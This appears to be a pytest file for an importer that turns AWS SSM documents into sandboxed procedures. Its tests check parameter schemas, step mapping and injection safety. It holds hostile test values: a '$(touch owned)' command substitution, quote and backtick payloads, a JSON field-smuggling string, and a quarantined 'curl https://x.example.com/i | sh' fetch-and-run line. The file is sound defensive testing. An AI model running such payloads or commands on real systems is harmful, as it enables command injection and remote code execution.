"""SSM documents: parameters as a form, what runs runs for real, what cannot run is a marked step by its name."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
import yaml

from procedures.actions.local import LocalScript
from procedures.domain import parameters
from procedures.domain.errors import InvalidInput
from procedures.domain.importing import Carried, Imported, ImportRefused
from procedures.domain.rendering import script_environment
from procedures.importers import ssm, ssm_steps
from tests.actions.calls import HOSTILE, Collected, call
from tests.fixtures.counterparts import need
from tests.importers import corpora
from tests.importers.contract import SAMPLES

MARKED = "todo:replace"


def read(name: str) -> Carried:
    return ssm.read(name, (SAMPLES / "ssm" / name).read_bytes())


def automation(*steps: Mapping[str, Any], **asked: Any) -> Carried:
    document = {"schemaVersion": "0.3", "parameters": asked, "mainSteps": steps}
    return ssm.read("document.json", json.dumps(document).encode())


def program(name: str, text: str, **more: Any) -> dict[str, Any]:
    return {
        "name": name,
        "action": "aws:executeScript",
        "inputs": {"Runtime": "python3.11", "Handler": "h", "Script": f"def h(e, c):\n    {text}\n", **more},
    }


def spec(one: Imported) -> Any:
    return yaml.safe_load(one.files["procedure.yaml"])["spec"]


def steps(carried: Carried) -> dict[str, Any]:
    return {step["id"]: step for step in spec(carried.procedures[0])["steps"]}


def fates(carried: Carried) -> dict[str, tuple[str, str]]:
    return {key.at: (key.fate, key.said) for key in carried.keys}


def run(one: Imported, folder: Path, *words: str) -> subprocess.CompletedProcess[str]:
    """`opsportal run --local` of an imported procedure, in the real sandbox."""
    need("bwrap")
    for path, data in one.files.items():
        place = folder / one.name / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(data)
    argv = [sys.executable, "-m", "opsportal.cli.main", "run", "--local", one.name, *words]
    environ = {"PATH": os.environ["PATH"], "HOME": str(folder), "OPSPORTAL_URL": "http://localhost:9"}
    environ["PYTHONPATH"] = str(Path(__file__).resolve().parent.parent.parent)
    return subprocess.run(argv, cwd=folder, env=environ, capture_output=True, text=True, timeout=90, check=False)


def test_every_type_of_parameter_becomes_its_schema() -> None:
    carried = read("script.yaml")
    form = spec(carried.procedures[0])["parameters"]
    asked = form["properties"]
    assert form["required"] == ["Who"]
    assert asked["Times"]["type"] == "integer"
    assert asked["Loud"] == {"title": "Loud", "type": "boolean", "default": False}
    assert asked["Words"]["items"] == {"type": "string", "enum": ["one", "two", "three"]}
    assert (asked["Words"]["minItems"], asked["Words"]["maxItems"]) == (1, 5)
    assert asked["Extra"] == {"title": "Extra", "type": "object", "ui:widget": "textarea", "default": {}}
    assert asked["Mode"]["enum"] == ["short", "long"]
    assert "AutomationAssumeRole" not in asked
    told = fates(carried)
    assert told["parameters.Odd.allowedPattern"][0] == "reported"
    assert told["parameters.Odd.maxChars"][0] == "reported"
    assert told["assumeRole"][0] == "reported"


@pytest.mark.parametrize(
    ("pattern", "good", "bad"),
    [
        (r"^arn:aws[a-z-]*:iam::\d{12}:role/[\w+=,.@-]+$", "arn:aws:iam::123456789012:role/x", "arn:aws:iam::1:role/x"),
        (r"\A[a-z]+\Z", "abc", "abc1"),
        (r"^https?:\/\/\w+$", "https://x", "ftp://x"),
        (r"^$|^vol-[a-f0-9]{8}$", "", "vol-1"),
    ],
)
def test_a_pattern_of_java_means_the_same_in_the_form(pattern: str, good: str, bad: str) -> None:
    carried = automation(P={"type": "String", "allowedPattern": pattern})
    form = spec(carried.procedures[0])["parameters"]
    assert parameters.resolve(form, {"P": good}) == {"P": good}
    with pytest.raises(InvalidInput):
        parameters.resolve(form, {"P": bad})


def test_the_eleven_actions_that_are_used_most_run_or_are_marked_by_name() -> None:
    found = steps(read("calls.json"))
    actions = {name: step["action"] for name, step in found.items()}
    assert actions["approve"] == "gate:approval"
    assert found["approve"]["input"] == {
        "message": "Stop ${{ parameters.Topic }}?",
        "approvers": {"operations": 2},
        "expires": "1000s",
    }
    assert (actions["nap"], found["nap"]["input"]) == ("gate:wait", {"for": "90s"})
    assert actions["own"] == "procedure:run"
    assert found["own"]["input"] == {
        "procedure": "our-doc",
        "parameters": {"Topic": "${{ parameters.Topic }}", "n": 1},
    }
    real = {"stop", "look", "check", "wait", "stack", "call", "unstack", "tag", "theirs", "patch"}
    assert {name for name, action in actions.items() if action == "local:script"} == real
    assert all(found[name]["input"]["network"] is True for name in real)
    marked = {name: found[name]["input"]["was"] for name, action in actions.items() if action == MARKED}
    assert marked == {
        "late": "aws:executeAutomation",
        "shell": "aws:runCommand",
        "strange": "aws:runInstances",
        "pipe": "aws:executeAwsApi",
        "store": "aws:executeAwsApi",
    }


def test_keys_of_aws_are_secrets_of_the_run_and_stand_in_no_file() -> None:
    one = read("calls.json").procedures[0]
    assert set(spec(one)["secrets"]["schema"]["required"]) == set(ssm_steps.SECRETS)
    env = steps(read("calls.json"))["look"]["input"]["env"]
    assert env["AWS_SECRET_ACCESS_KEY"] == "${{ secrets.aws_secret_access_key }}"
    assert env["AWS_REGION"] == "${{ parameters.aws_region }}"


def test_nothing_is_pasted_into_a_program_and_no_step_asks_for_what_it_does_not_need() -> None:
    one = read("script.yaml").procedures[0]
    text = one.files["step_Greet.py"].decode()
    assert 'f"{{not a name}}"' in text
    assert "Who" not in text
    assert "secrets" not in spec(one)
    assert not [step for step in spec(one)["steps"] if step["input"].get("network")]
    pasted = automation(program("a", "print('{{ Who }}')"), Who={"type": "String"})
    assert pasted.procedures[0].marked == ["a"]


def test_an_imported_automation_prints_what_the_original_prints(tmp_path: Path) -> None:
    hostile = "$(touch owned); 'x' {{ Who }}"
    done = run(read("script.yaml").procedures[0], tmp_path, "--Who", "Ada")
    line = "hello Ada"
    assert done.stdout == f"{line * 2} {{not a name}} False ['one', 'two']\nshort\nlast\n", done.stderr
    assert done.returncode == 0
    done = run(read("script.yaml").procedures[0], tmp_path, "--Who", hostile, "--Times", "1", "--Mode", "long")
    said = f"hello {hostile}"
    assert done.stdout.splitlines() == [
        f"{said} {{not a name}} False ['one', 'two']",
        f"long {{'said': {said!r}, 'count': 2}}",
        "clean",
    ], done.stderr
    assert done.returncode == 0


def test_a_critical_step_that_fails_makes_the_run_fail_in_the_end(tmp_path: Path) -> None:
    bad = {**program("bad", "raise ValueError('no')"), "onFailure": "Continue"}
    done = run(automation(bad, program("after", "print('after')")).procedures[0], tmp_path)
    assert (done.returncode, done.stdout) == (1, "after\n")
    assert "verdict" in done.stderr
    mild = automation({**bad, "isCritical": False}, program("after", "print('after')"))
    assert run(mild.procedures[0], tmp_path / "mild").returncode == 0


SHELL = [
    "echo {{ V }} end",
    "X='{{ V }}'\necho \"it is $X\"",
    'echo "it is {{V}}."',
    "cat <<EOF\n{{ V }}\nEOF",
    'for i in 1 2; do echo "$i {{V}}"; done',
    "#!/bin/bash\nset -eu\n[[ '{{ V }}' == plain ]] && echo same || echo other",
]


@pytest.mark.parametrize("text", SHELL)
def test_an_imported_shell_script_prints_what_the_original_prints(text: str) -> None:
    need("bwrap")
    one = command(text, V={"type": "String"}).procedures[0]
    path = spec(one)["steps"][0]["input"]["script"]

    def printed(value: str) -> str:
        io = Collected()
        given = {"V": value}
        env = script_environment(given)
        files = {path: one.files[path]}
        result = LocalScript().run(call(input={"script": path}, files=files, parameters=given, env=env), io)
        assert result.outcome == "succeeded", io.out
        return io.text

    program = "/bin/bash" if text.startswith("#!") else "/bin/sh"
    original = subprocess.run(
        [program, "-c", text.replace("{{ V }}", "plain").replace("{{V}}", "plain")], capture_output=True, check=False
    )
    assert printed("plain") == original.stdout.decode()
    for value in (HOSTILE["substitution"], HOSTILE["quote"], HOSTILE["backticks"]):
        printed(value)
        assert not Path("/tmp/owned").exists()


def command(*lines: str, **asked: Any) -> Carried:
    inputs = {"runCommand": list(lines)}
    step = {"action": "aws:runShellScript", "name": "go", "inputs": inputs}
    document = {"schemaVersion": "2.2", "parameters": asked, "mainSteps": [step]}
    return ssm.read("command.json", json.dumps(document).encode())


def test_a_command_document_runs_over_ssh_on_the_host_that_is_named() -> None:
    one = read("command.yaml").procedures[0]
    found = spec(one)
    assert found["targets"] == {"filter": "name=${{ parameters.host }}"}
    assert found["credentials"] == {"host": {"kind": "ssh", "ttl": "10m"}}
    assert one.marked == ["run", "evil", "windows"]
    shown = one.files["show.sh"].decode()
    assert shown.startswith("#!/bin/bash\ncd -- /tmp || exit 1\n")
    assert "WHO=''\"${PARAM_WHO}\"''" in shown
    assert "'{{.Names}}'" in shown
    assert b"curl" not in one.files["procedure.yaml"]
    assert b"curl https://x.example.com/i | sh" in one.files["kept/evil.original"]


def test_the_old_form_of_a_command_document_is_read_too() -> None:
    one = read("old.json").procedures[0]
    assert not one.marked
    assert one.files[spec(one)["steps"][0]["input"]["script"]] == b"#!/bin/sh\necho ''\"${PARAM_COMMANDS}\"''\n"


def test_ways_back_and_gates_under_conditions_are_marked() -> None:
    loop = automation(program("a", "pass"), {**program("b", "pass"), "nextStep": "a"})
    assert loop.procedures[0].marked == ["b"]
    ask = {"name": "ask", "action": "aws:approve", "inputs": {"Approvers": ["x"]}}
    choose = {
        "name": "choose",
        "action": "aws:branch",
        "inputs": {"Choices": [{"NextStep": "ask", "Variable": "{{ P }}", "StringEquals": "x"}], "Default": "end"},
    }
    gate = automation(choose, ask, program("end", "pass"), P={"type": "String"})
    assert gate.procedures[0].marked == ["ask"]


COUNTERPART = """
import json, os
class Client:
    def __init__(self, service, region):
        self.service, self.region = service, region
    def __getattr__(self, name):
        def method(**given):
            print(json.dumps([self.service, self.region, name, given, os.environ["AWS_SESSION_TOKEN"][:2]]))
            answers = json.load(open("/bundle/answers.json"))
            return {"ResponseMetadata": {}, **answers.get(name, {})}
        return method
def client(service, region_name):
    return Client(service, region_name)
"""
NAMES = "import re\ndef xform_name(name):\n    return re.sub('(?<!^)(?=[A-Z])', '_', name).lower()\n"


def calls_of(step: str, answers: Mapping[str, Any], **given: Any) -> tuple[Any, list[Any]]:
    """Run one AWS step in the sandbox against a counterpart that writes down what it is asked."""
    need("bwrap")
    one = read("calls.json").procedures[0]
    extra = {"boto3.py": COUNTERPART, "botocore.py": NAMES, "answers.json": json.dumps(answers)}
    files = {**one.files, **{path: text.encode() for path, text in extra.items()}}
    values = {"InstanceId": ["i-1", "i-2"], "Topic": 'arn "x"', **given}
    env = {"AWS_REGION": "eu-central-1", "AWS_SESSION_TOKEN": "to-ken", "SSM_VALUE_1": '["z1"]', "SSM_POLL_S": "0.01"}
    io = Collected()
    result = LocalScript().run(
        call(input={"script": f"step_{step}.py"}, files=files, parameters=values, env=env, run_id=uuid4()), io
    )
    assert b"Traceback" not in io.out.get("stderr", b""), io.out
    return result, [json.loads(line) for line in io.text.splitlines()]


def test_an_aws_step_calls_what_the_document_says_with_values_as_data() -> None:
    answer = {"Reservations": [{"Instances": [{"Placement": {"AvailabilityZone": "a"}, "State": {"Name": "stopped"}}]}]}
    result, asked = calls_of("look", {"describe_instances": answer})
    assert result.output == {"Reservations": answer["Reservations"], "Zones": ["a"], "Succeeded": True}
    assert asked == [["ec2", "eu-central-1", "describe_instances", {"InstanceIds": ["i-1", "i-2"]}, "to"]]
    result, asked = calls_of("stop", {"describe_instances": answer})
    assert [row[2] for row in asked] == ["stop_instances", "describe_instances"]
    assert asked[0][3] == {"InstanceIds": ["i-1", "i-2"], "Force": True}
    assert calls_of("check", {"describe_instances": answer})[0].outcome == "succeeded"
    answer["Reservations"][0]["Instances"][0]["State"]["Name"] = "running"
    assert calls_of("check", {"describe_instances": answer})[0].outcome == "failed"


def test_a_value_inside_json_cannot_leave_its_place() -> None:
    result, asked = calls_of("call", {"invoke": {"StatusCode": 200}}, Topic='x", "admin": "yes')
    assert json.loads(asked[0][3]["Payload"]) == {"topic": 'x", "admin": "yes', "zones": ["z1"]}
    assert result.output["StatusCode"] == 200
    failed, _ = calls_of("call", {"invoke": {"FunctionError": "Unhandled"}})
    assert failed.outcome == "failed"


def test_a_step_without_boto3_says_what_it_needs() -> None:
    need("bwrap")
    one = read("calls.json").procedures[0]
    io = Collected()
    values = {"InstanceId": ["i-1"], "Topic": "x"}
    files = {**one.files, "boto3.py": b"raise ImportError"}
    LocalScript().run(
        call(input={"script": "step_look.py"}, files=files, parameters=values, env={"AWS_REGION": "x"}), io
    )
    assert b"needs boto3 on the runner" in io.out["stderr"]


@pytest.mark.parametrize(
    ("text", "line", "told"),
    [
        (b"a: 1\nschemaVersion: '9'\n", 2, "schemaVersion"),
        (b"schemaVersion: '0.3'\nmainSteps: 7\n", 2, "no list"),
        (b"schemaVersion: '0.3'\nmainSteps:\n  - {name: a, action: x}\n  - {name: a, action: x}\n", 4, "of its own"),
        (b"schemaVersion: '2.2'\nmainSteps:\n  - 7\n", 3, "no action"),
        (b"schemaVersion: '0.3'\nparameters: []\nparameters: [1]\n", 3, "no mapping"),
    ],
)
def test_what_is_no_document_is_refused_with_its_line(text: bytes, line: int, told: str) -> None:
    with pytest.raises(ImportRefused, match=told) as refused:
        ssm.read("x.yaml", text)
    assert refused.value.line == line


@pytest.mark.parametrize("place", corpora.files("ssm-automation", "ssm-command"), ids=lambda place: place.name[-60:])
def test_a_public_file_is_imported(place: Path) -> None:
    assert corpora.outcome("ssm", place) in {"imported", "marked"}
